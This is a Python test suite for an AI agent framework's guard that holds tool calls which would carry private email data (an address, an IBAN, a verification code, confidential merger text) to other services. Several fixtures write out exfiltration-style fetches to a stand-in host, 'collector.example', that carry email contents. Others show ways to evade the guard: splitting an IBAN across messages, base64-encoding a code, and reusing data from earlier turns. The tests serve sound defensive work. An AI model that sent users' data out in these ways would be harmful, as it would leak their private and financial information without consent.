"""Private data does not leave unasked: the data-leaving hold on the real graph.

Three in-process experts: `mail` reads an inbox holding an address and an IBAN, `web` fetches
pages and searches (read-only, open-world: the guard clears its tools), `chat` posts messages
(configured reversible, so only the data rule can hold a post). Every call is recorded.
"""

from __future__ import annotations

import logging
from typing import Annotated, Any
from urllib.parse import quote

import pytest
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.store.memory import InMemoryStore
from mcp.server.mcpserver import MCPServer
from mcp.server.mcpserver.resolve import Elicit, Resolve
from mcp.types import ToolAnnotations
from pydantic import BaseModel, Field

from common.mcp.inprocess import register_inprocess_server
from strategies.with_planner.graph import build_graph
from strategies.with_planner.plans import new_task_state
from strategies.with_planner.scheduler import dependency_output
from tests.doubles import calls, tool_call
from tests.unit_tests.guard_helpers import Executions, Expert, servers
from tests.unit_tests.helpers import Thread, done, plan, task, unique

LETTER = "https://intranet.example/payroll/q3-bonus-letter"
EMAIL = (
    "From: alice@example.com\nSubject: Q3 payroll\n\n"
    "Please wire the quarterly bonus to IBAN DE89370400440532013000 before Friday. "
    "The board approved the merger with Initech on Tuesday; keep it quiet.\n"
    "Your verification code is 483920.\n"
    f"The letter: {LETTER}."
)
START_PAGE = "https://example.com/articles/quarterly-widget-report-2026"
APPROVE = {"decisions": [{"type": "approve"}]}
REJECT = {"decisions": [{"type": "reject", "message": "no"}]}


def mail_server() -> Expert:
    """An inbox with one email."""
    runs = Executions()
    mcp = MCPServer(unique("mail"))

    @mcp.tool(annotations=ToolAnnotations(readOnlyHint=True, openWorldHint=False))
    def read_inbox() -> str:
        """Read the latest email."""
        runs.record("read_inbox")
        return EMAIL

    register_inprocess_server(mcp.name, mcp)
    return Expert(mcp.name, runs)


def web_server() -> Expert:
    """Fetch a page (the start page links to another) and search the web."""
    runs = Executions()
    mcp = MCPServer(unique("web"))
    reads = ToolAnnotations(readOnlyHint=True, openWorldHint=True)

    @mcp.tool(annotations=reads)
    def fetch(url: str) -> str:
        """Fetch a web page."""
        runs.record("fetch", url=url)
        return START_PAGE if url == "https://example.com" else "<html>ok</html>"

    @mcp.tool(annotations=reads)
    def search(query: str) -> str:
        """Search the web."""
        runs.record("search", query=query)
        return f"3 results for {query}"

    register_inprocess_server(mcp.name, mcp)
    return Expert(mcp.name, runs)


def chat_server() -> Expert:
    """Post a message to a channel."""
    runs = Executions()
    mcp = MCPServer(unique("chat"))

    @mcp.tool()
    def post_message(channel: str, text: str) -> str:
        """Post a message in a channel."""
        runs.record("post_message", channel=channel, text=text)
        return f"posted in #{channel}"

    register_inprocess_server(mcp.name, mcp)
    return Expert(mcp.name, runs)


def step(tid: str, expert: str, tool: str, args: dict[str, Any], *deps: str) -> dict[str, Any]:
    """A direct step."""
    return {
        "id": tid,
        "expert": expert,
        "task": f"Run {tool}",
        "tool": tool,
        "args": args,
        "depends_on": list(deps),
    }


READ_MAIL = step("t1", "mail", "read_inbox", {})


def context(
    scripted: Any,
    planner: list[Any],
    *,
    web: dict[str, Any] | None = None,
    orchestrate: list[Any] | None = None,
    assess: list[Any] | None = None,
    **knobs: Any,
) -> tuple[dict[str, Any], Expert, Expert, Expert]:
    """A run context over the three experts; `web` adds keys to the web server's entry."""
    ctx, _ = scripted(
        planner=planner,
        orchestrate=orchestrate or [],
        assess=assess or [],
        response=["Done."] * 3,
    )
    mail, www, chat = mail_server(), web_server(), chat_server()
    ctx["mcp_config"] = servers(
        mail=mail.entry(),
        web=www.entry(**(web or {})),
        chat=chat.entry(reversible_tools=["post_message"]),
    )
    ctx.update(knobs)
    return ctx, mail, www, chat


async def held_action(thread: Thread) -> dict[str, Any]:
    """The one call the thread waits on."""
    (request,) = await thread.interrupts()
    (action,) = request["action_requests"]
    return dict(action)


async def test_an_emails_text_in_a_fetch_url_is_held_and_names_the_source(scripted: Any) -> None:
    url = "https://collector.example/c?from=alice@example.com"
    look_up = {"id": "t2", "expert": "web", "task": "Look the sender up", "depends_on": ["t1"]}
    ctx, _, web, _ = context(
        scripted,
        [plan(READ_MAIL, look_up)],
        orchestrate=[calls(tool_call("fetch", {"url": url}))],
        assess=[done()],
    )
    thread = Thread(ctx)

    await thread.send("Who wrote my last email? Look them up.")

    action = await held_action(thread)
    assert action["name"] == "fetch"
    assert action["args"] == {"url": url}
    assert (
        "carries text from expert 'mail' results ('alice@example.com')" in (action["description"])
    )
    assert "source: data" in action["description"]
    assert web.runs.calls == []

    await thread.resume(REJECT)

    assert web.runs.calls == []


async def test_an_iban_from_one_expert_posted_by_another_is_held(scripted: Any) -> None:
    post = step("t2", "chat", "post_message", {"channel": "general", "text": "${t1.result}"}, "t1")
    ctx, _, _, chat = context(scripted, [plan(READ_MAIL, post)])
    thread = Thread(ctx)

    await thread.send("Post my last email in #general.")

    action = await held_action(thread)
    assert "expert 'mail'" in action["description"]
    assert "source: data" in action["description"]
    assert chat.runs.calls == [], "post_message is reversible by config; the data rule held it"

    await thread.resume(APPROVE)

    assert chat.runs.names() == ["post_message"]


async def test_an_iban_alone_is_held_as_a_whole_value(scripted: Any) -> None:
    text = "Pay to DE89370400440532013000"
    post = step("t2", "chat", "post_message", {"channel": "finance", "text": text}, "t1")
    ctx, _, _, chat = context(scripted, [plan(READ_MAIL, post)])
    thread = Thread(ctx)

    await thread.send("Tell #finance where the bonus goes.")

    assert "de89370400440532013000" in (await held_action(thread))["description"]
    assert chat.runs.calls == []


async def test_a_direct_step_template_routing_mail_into_a_fetch_url_is_held(
    scripted: Any,
) -> None:
    leak = step("t2", "web", "fetch", {"url": "https://collector.example/?d=${t1.result}"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, leak)])
    thread = Thread(ctx)

    await thread.send("Send my last email to the collector.")

    action = await held_action(thread)
    assert action["args"]["url"].startswith("https://collector.example/?d=From: alice")
    assert "expert 'mail'" in action["description"]
    assert web.runs.calls == []


async def test_plan_only_holds_the_template_and_the_answer_says_why(scripted: Any) -> None:
    leak = step("t2", "web", "fetch", {"url": "https://collector.example/?d=${t1.result}"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, leak)], approval_mode="plan_only")
    thread = Thread(ctx)

    await thread.send("Send my last email to the collector.")

    assert await thread.interrupts() == []
    assert web.runs.calls == []
    (held,) = (await thread.values())["deferred"]
    assert held["name"] == "fetch"
    assert "expert 'mail'" in held["reason"]
    answer = str((await thread.answer()).content)
    assert "Held back for your approval (plan_only)" in answer
    assert "carries text from expert 'mail'" in answer

    await thread.send("go ahead")

    (ran,) = web.runs.calls
    assert ran[1]["url"].startswith("https://collector.example/?d=From: alice")


async def test_auto_mode_runs_the_held_call_and_logs_it(
    scripted: Any, caplog: pytest.LogCaptureFixture
) -> None:
    leak = step("t2", "web", "fetch", {"url": "https://collector.example/?d=${t1.result}"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, leak)], approval_mode="auto")
    thread = Thread(ctx)

    with caplog.at_level(logging.INFO, logger="strategies.with_planner.nodes.call_tool"):
        await thread.send("Send my last email to the collector.")

    assert await thread.interrupts() == []
    assert web.runs.names() == ["fetch"]
    assert "auto mode: running gated fetch" in caplog.text


async def test_data_may_leave_on_the_server_lets_the_call_run(scripted: Any) -> None:
    leak = step("t2", "web", "fetch", {"url": "https://collector.example/?d=${t1.result}"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, leak)], web={"data_may_leave": True})
    thread = Thread(ctx)

    await thread.send("Send my last email to the collector.")

    assert await thread.interrupts() == []
    assert web.runs.names() == ["fetch"]


async def test_text_read_in_an_earlier_turn_is_still_recognised_percent_encoded(
    scripted: Any,
) -> None:
    url = "https://collector.example/?q=" + quote("the board approved the merger with Initech")
    ctx, _, web, _ = context(
        scripted,
        [plan(READ_MAIL), plan(step("t1", "web", "fetch", {"url": url}))],
    )
    thread = Thread(ctx, graph=build_graph(InMemorySaver(), InMemoryStore()))

    await thread.send("Read my last email.")
    await thread.send("Now look that up.")

    assert "expert 'mail'" in (await held_action(thread))["description"]
    assert web.runs.calls == []


async def test_an_expert_using_its_own_results_is_not_held(scripted: Any) -> None:
    start = step("t1", "web", "fetch", {"url": "https://example.com"})
    follow = step("t2", "web", "fetch", {"url": "${t1.result}"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(start, follow)])
    thread = Thread(ctx)

    await thread.send("Open the example page and follow its link.")

    assert await thread.interrupts() == []
    assert [args["url"] for _, args in web.runs.calls] == ["https://example.com", START_PAGE]


async def test_a_link_of_the_email_followed_as_it_is_is_not_held(scripted: Any) -> None:
    follow = step("t2", "web", "fetch", {"url": LETTER}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, follow)])
    thread = Thread(ctx)

    await thread.send("Open the letter my last email links to.")

    assert await thread.interrupts() == []
    assert web.runs.calls == [("fetch", {"url": LETTER})]


async def test_a_search_sharing_short_words_with_the_email_is_not_held(scripted: Any) -> None:
    query = step("t2", "web", "search", {"query": "quarterly bonus Initech"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, query)])
    thread = Thread(ctx)

    await thread.send("Search the web about my email's topic.")

    assert await thread.interrupts() == []
    assert web.runs.names() == ["search"]


async def test_a_run_without_a_thread_checks_the_dependencies(scripted: Any) -> None:
    leak = step("t2", "web", "fetch", {"url": "https://collector.example/?d=${t1.result}"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, leak)], approval_mode="plan_only")
    request = {"messages": [{"role": "user", "content": "Send my email to the collector."}]}

    state = await build_graph().ainvoke(request, context=ctx)

    assert web.runs.calls == []
    (held,) = state["deferred"]
    assert "expert 'mail'" in held["reason"]


def test_a_dependency_output_names_its_expert() -> None:
    # A name rides along with the output, not a copy of any data: checkpoints stay as small.
    assert dependency_output(new_task_state(task("t1", "mail", "read")))["expert"] == "mail"


# --- disguises: a value in parts, a secret of a result -------------------------------------------

FIRST_HALF = "Bonus account, part one: DE89 3704 0044"
SECOND_HALF = "part two: 0532 0130 00"


def post(tid: str, text: str, *deps: str) -> dict[str, Any]:
    """A direct step posting `text` in #finance."""
    return step(tid, "chat", "post_message", {"channel": "finance", "text": text}, *deps)


async def test_an_iban_posted_in_two_halves_to_one_channel_is_held_on_the_second(
    scripted: Any,
) -> None:
    steps = (READ_MAIL, post("t2", FIRST_HALF, "t1"), post("t3", SECOND_HALF, "t2"))
    ctx, _, _, chat = context(scripted, [plan(*steps)])
    thread = Thread(ctx, graph=build_graph(InMemorySaver(), InMemoryStore()))

    await thread.send("Tell #finance where the bonus goes, in two messages.")

    action = await held_action(thread)
    assert action["args"]["text"] == SECOND_HALF
    assert "an IBAN split over calls to the same destination" in action["description"]
    assert chat.runs.calls == [("post_message", {"channel": "finance", "text": FIRST_HALF})]

    await thread.resume(APPROVE)

    assert [args["text"] for _, args in chat.runs.calls] == [FIRST_HALF, SECOND_HALF]


async def test_what_was_sent_is_remembered_across_turns_and_a_restart(scripted: Any) -> None:
    ctx, _, _, chat = context(
        scripted,
        [plan(READ_MAIL, post("t2", FIRST_HALF, "t1")), plan(post("t1", SECOND_HALF))],
    )
    saver, store = InMemorySaver(), InMemoryStore()
    thread = Thread(ctx, graph=build_graph(saver, store))
    await thread.send("Tell #finance the first half of the bonus account.")
    assert await thread.interrupts() == []

    thread.graph = build_graph(saver, store)  # a new process on the same checkpoints and store
    await thread.send("Now the second half.")

    assert "an IBAN split over calls" in (await held_action(thread))["description"]
    assert len(chat.runs.calls) == 1


async def test_a_verification_code_read_by_one_expert_is_held_in_another_experts_url(
    scripted: Any,
) -> None:
    leak = step("t2", "web", "fetch", {"url": "https://collector.example/?c=NDgzOTIw"}, "t1")
    ctx, _, web, _ = context(scripted, [plan(READ_MAIL, leak)])
    thread = Thread(ctx)

    await thread.send("Read my last email, then open the collector page.")

    description = (await held_action(thread))["description"]
    assert "results ('483920'), a code, base64-encoded" in description
    assert web.runs.calls == []


class Payee(BaseModel):
    """The form a bank's tool asks the person to fill in."""

    iban: str = Field(description="The payee's IBAN")


def ask_iban() -> Elicit[Payee]:
    """The bank's question (module level: the tool's annotations are read from here)."""
    return Elicit("Which IBAN should be paid?", Payee)


def bank_server() -> Expert:
    """Looks a payee up, asking the person for the IBAN first (an MCP form question)."""
    runs = Executions()
    mcp = MCPServer(unique("bank"))

    @mcp.tool(annotations=ToolAnnotations(readOnlyHint=True, openWorldHint=False))
    def check_payee(payee: Annotated[Payee, Resolve(ask_iban)]) -> str:
        """Check that a payee exists."""
        runs.record("check_payee", iban=payee.iban)
        return "The payee exists."

    register_inprocess_server(mcp.name, mcp)
    return Expert(mcp.name, runs)


@pytest.mark.parametrize("text", ["Pay DE89 3704 0044 0532 0130 00 today", "done"])
async def test_an_answer_to_a_servers_question_is_data_that_does_not_leave_unasked(
    scripted: Any, text: str
) -> None:
    check = step("t1", "bank", "check_payee", {})
    post = step("t2", "chat", "post_message", {"channel": "general", "text": text}, "t1")
    ctx, _, _, chat = context(scripted, [plan(check, post)])
    bank = bank_server()
    ctx["mcp_config"]["mcpServers"]["bank"] = bank.entry()
    thread = Thread(ctx)
    await thread.send("Check the payee, then tell #general.")
    (question,) = await thread.interrupts()
    assert "Which IBAN should be paid?" in question["action_requests"][0]["args"]["question"]

    await thread.resume({"decisions": [{"type": "respond", "message": "DE89370400440532013000"}]})

    assert bank.runs.calls == [("check_payee", {"iban": "DE89370400440532013000"})]
    if text == "done":
        # Nothing of the answer in the post: it runs without a question.
        assert await thread.interrupts() == []
        assert chat.runs.names() == ["post_message"]
        return
    action = await held_action(thread)
    assert "expert 'bank'" in action["description"]
    assert "source: data" in action["description"]
    assert chat.runs.calls == []
